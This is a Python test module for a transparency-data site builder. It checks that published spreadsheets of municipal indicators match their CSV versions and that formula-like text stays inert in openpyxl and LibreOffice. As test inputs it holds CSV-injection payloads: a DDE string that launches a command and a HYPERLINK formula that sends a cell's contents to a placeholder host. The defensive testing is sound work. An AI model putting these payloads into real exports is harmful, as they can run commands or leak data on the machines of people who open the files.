"""The transparency formats as other programs read them: openpyxl and LibreOffice. Each workbook says what its CSV says,
with the law's titles and a row for each indicator; and no text that looks like a formula becomes one."""
from __future__ import annotations

import csv
import io
import json
import re
import shutil
import subprocess
import tempfile
import xml.etree.ElementTree as ET
from pathlib import Path

import openpyxl

from published import Published

TITLES = Path(__file__).parents[1] / "SiteBuildingTests/Samples/lgtaip-art70-columns.md"
FRACTIONS = {"datos/lgtaip-70-v/": "V", "datos/lgtaip-70-vi/": "VI"}
DEFUSED = re.compile(r"'[=+\-@\t\r]")
TABLE, TEXT = ("{urn:oasis:names:tc:opendocument:xmlns:%s:1.0}" % name for name in ("table", "text"))

# What a report may say, and a spreadsheet must not run. The cells of a report have no white space around them.
HOSTILE = {
    "name": '=HYPERLINK("https://ejemplo.invalid/?"&A1,"ver")', "definition": "=cmd|' /C calc'!A0",
    "method": "+1+1", "unit": "@SUM(1,1)", "evidence": "-2+3+cmd|' /C calc'!A0",
}
SITE = """municipio: =1+1
titulo: Fórmulas
descripcion: Textos que parecen fórmulas.
direccion: https://ejemplo.invalid/
idioma: es
"""
PLAN = """nombre: Plan
ejercicios: {desde: 2024, hasta: 2024}
ejes: [{clave: "1"}]
objetivos: [{clave: "1.1", nombre: "=2+2"}]
programas: [{clave: "1", nombre: "@SUM(2,2)"}]
unidades: [{clave: "10", nombre: "=3+3", programas: ["1"]}]
"""
HEADER = [
    ["Unidad Responsable:", "10 - =3+3"], ["Programa Presupuestario:", "1 - @SUM(2,2)"],
    ["Trimestre que se reporta", "1er. Trimestre 2024"], ["Objetivo:", "1.1 =2+2"],
    ["Nivel", "Nombre", "Definición", "Método de Cálculo", "Unidad de Medida", "Tipo", "Dimensión",
     "Frecuencia de Medición", "Sentido Esperado", "Línea Base", "", "Valores Programados", "", "", "", "",
     "Valores Alcanzados", "", "", "", "", "Variación", "", "", "", "", "Medios de Verificación"],
    [""] * 9 + ["Año", "Valor"] + ["T1", "T2", "T3", "T4", "Acumulado"] * 3,
]


def check(site: Published, program: Path, findings) -> str:
    books = [path for path in site.ending(".xlsx") if path.startswith("datos/")]
    for path in books:
        check_workbook(site, path, findings)
    office = shutil.which("soffice") or shutil.which("libreoffice")
    if not office:
        findings.add("LibreOffice", "is not installed: run scripts/setup --navegador")
        return f"{len(books)} workbooks"
    with tempfile.TemporaryDirectory() as folder:
        convert = Converter(office, Path(folder))
        for path in newest(books):
            table = unguarded(rows(site.bytes(twin(path))))
            opened = [[text for text, _ in row][: len(table[0])] for row in sheet_of(convert(site.folder / path))]
            compare(path, "LibreOffice shows", opened[: len(table)], table, findings)
        cells = check_formulas(convert, program.resolve(), Path(folder), findings)
    return f"{len(books)} workbooks, {len(newest(books))} opened in LibreOffice, {cells} hostile cells"


# Published files

def check_workbook(site: Published, path: str, findings):
    if twin(path) not in site.files:
        findings.add(path, f"{twin(path)} is not published beside it")
        return
    table = rows(site.bytes(twin(path)))
    sheet = openpyxl.load_workbook(site.folder / path).active
    cells = [list(row) for row in sheet.iter_rows()]
    for cell in (cell for row in cells for cell in row):
        if cell.data_type == "f" or cell.hyperlink:
            findings.add(path, f"{cell.coordinate} is a formula or a link: {str(cell.value)[:60]}")
    compare(path, "openpyxl reads", [[shown(cell) for cell in row] for row in cells], unguarded(table), findings)
    if not all(cell.font.bold for cell in cells[0]) or sheet.freeze_panes != "A2":
        findings.add(path, "its header is not bold or does not stay in sight")
    for folder, fraction in FRACTIONS.items():
        if path.startswith(folder) and table[0] != titles(fraction):
            findings.add(path, f"its titles are not those of fraction {fraction}")
    year = int(Path(path).name[:4])
    indicators = [name for name in site.ending(".json") if name.startswith("indicadores/")]
    expected = sum(has_year(json.loads(site.bytes(name)), year) for name in indicators)
    if len(cells) - 1 != expected:
        findings.add(path, f"has {len(cells) - 1} rows; {expected} indicators have data of {year}")


def shown(cell) -> str:
    """As the number's format shows it: with the decimals that were typed."""
    if cell.data_type != "n" or cell.value is None:
        return cell.value or ""
    decimals = len(cell.number_format.partition(".")[2])
    return f"{cell.value:.{decimals}f}"


def has_year(indicator: dict, year: int) -> bool:
    return any(quarter["ejercicio"] == year for quarter in indicator["trimestres"])


def titles(fraction: str) -> list[str]:
    section = TITLES.read_text(encoding="utf-8").partition(f"\n## Fraction {fraction} ")[2].partition("\n## ")[0]
    return re.findall(r"^\d+\. (.+)$", section, re.M)


def newest(books: list[str]) -> list[str]:
    """The last quarter of each format."""
    return list({path.rpartition("/")[0]: path for path in sorted(books)}.values())


def twin(path: str) -> str:
    return path.removesuffix(".xlsx") + ".csv"


def rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), strict=True))


def unguarded(table: list[list[str]]) -> list[list[str]]:
    """Without the apostrophe that keeps a spreadsheet from running a text of the CSV."""
    return [[text[1:] if DEFUSED.match(text) else text for text in row] for row in table]


def compare(path: str, who: str, found: list[list[str]], expected: list[list[str]], findings):
    if len(found) != len(expected):
        findings.add(path, f"{who} {len(found)} rows, and its CSV has {len(expected)}")
    for number, (row, wanted) in enumerate(zip(found, expected), 1):
        for column, (text, want) in enumerate(zip(row, wanted, strict=False), 1):
            if text != want:
                where = f"row {number}, column {column}"
                findings.add(path, f"{where}: {who} «{text[:60]}», and its CSV says «{want[:60]}»")
        if len(row) != len(wanted):
            findings.add(path, f"row {number}: {who} {len(row)} cells, and its CSV has {len(wanted)}")


# Texts that look like formulas

def check_formulas(convert: "Converter", program: Path, folder: Path, findings) -> int:
    """Builds a site from a report of formulas and opens its tables; how many cells held one."""
    control = folder / "control.csv"
    control.write_text('=1+1,"=HYPERLINK(""https://ejemplo.invalid"",""x"")"\r\n', encoding="utf-8")
    if not any(formula for row in sheet_of(convert(control)) for _, formula in row):
        findings.add("LibreOffice", "runs no formula of a CSV, so that this check would see none")
    built = build_hostile(program, folder / "formulas")
    expected = set(HOSTILE.values()) | {"=2+2", "=3+3"}
    count = 0
    tables = [p for p in (built / "datos").rglob("*") if p.suffix in (".csv", ".xlsx") and "archivo" not in p.parts]
    for path in sorted(tables):
        name = f"a hostile {path.relative_to(built).as_posix()}"
        cells = [cell for row in sheet_of(convert(path)) for cell in row]
        for text, formula in cells:
            if formula:
                findings.add(name, f"«{text[:60]}» became {formula[:60]}")
        texts = {text.removeprefix("'") for text, _ in cells}
        # The law's tables have every text of the report; the others, some.
        for text in expected - texts if path.parent.name.startswith("lgtaip") else ():
            findings.add(name, f"«{text}» is not in it")
        count += sum(text.removeprefix("'") in expected for text, _ in cells)
    if count < 4 * len(expected):
        findings.add("hostile tables", f"only {count} cells hold a text that looks like a formula")
    return count


def build_hostile(program: Path, folder: Path) -> Path:
    cells = HOSTILE
    indicator = [
        "Componente 1", cells["name"], cells["definition"], cells["method"], cells["unit"], "De gestión", "Eficacia",
        "Trimestral", "Ascendente", "2023", "-3", "25", "25", "25", "25", "100", "-25.50", "", "", "", "-25.50",
        "50.50", "", "", "", "", cells["evidence"],
    ]
    report = io.StringIO(newline="")
    csv.writer(report, delimiter="\t").writerows([*HEADER, indicator])
    files = {"sitio.yaml": SITE, "plan.yaml": PLAN, "informes/2024-t1/formulas.tsv": report.getvalue()}
    for name, text in files.items():
        path = folder / "content" / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")
    subprocess.run(
        [program, "build", "--contenido", folder / "content", "--salida", folder / "public", "--quiet"],
        check=True, timeout=120)
    return folder / "public"


def sheet_of(document: Path) -> list[list[tuple[str, str]]]:
    """The rows of a flat OpenDocument sheet: the text of each cell as shown, and its formula or link."""
    found = []
    for row in ET.parse(document).iter(f"{TABLE}table-row"):
        cells = []
        for cell in row.iter(f"{TABLE}table-cell"):
            text = "\n".join(line_of(line) for line in cell.iter(f"{TEXT}p"))
            links = "".join(link.tag for link in cell.iter(f"{TEXT}a"))
            times = min(int(cell.get(f"{TABLE}number-columns-repeated", 1)), 100)
            cells += [(text, cell.get(f"{TABLE}formula") or links)] * times
        found.append(cells)
    return found


def line_of(element: ET.Element) -> str:
    """The text of a paragraph, in which runs of spaces and tabs are elements."""
    if element.tag == f"{TEXT}s":
        return " " * int(element.get(f"{TEXT}c", 1))
    if element.tag == f"{TEXT}tab":
        return "\t"
    return (element.text or "") + "".join(line_of(child) + (child.tail or "") for child in element)


class Converter:
    """LibreOffice without a window, with a profile of its own: a file becomes a flat OpenDocument sheet, or another kind."""

    def __init__(self, office: str, folder: Path):
        self.office = office
        self.folder = folder

    def __call__(self, path: Path, kind: str = "fods") -> Path:
        target = Path(tempfile.mkdtemp(dir=self.folder))
        reading = ["--infilter=CSV:44,34,76,1"] if path.suffix == ".csv" else []
        subprocess.run(
            [self.office, f"-env:UserInstallation={(self.folder / 'profile').as_uri()}", "--headless", *reading,
             "--convert-to", kind, "--outdir", target, path],
            check=True, capture_output=True, timeout=180)
        return target / f"{path.stem}.{kind}"
